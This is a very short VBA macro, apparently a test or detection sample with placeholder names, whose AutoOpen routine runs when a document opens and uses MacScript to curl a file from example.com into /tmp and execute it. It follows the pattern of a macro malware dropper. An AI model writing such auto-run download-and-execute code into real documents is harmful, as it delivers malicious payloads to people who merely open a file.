Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    MacScript "do shell script ""curl -o /tmp/harmless-none http://example.com/m; /tmp/harmless-none"""
End Sub
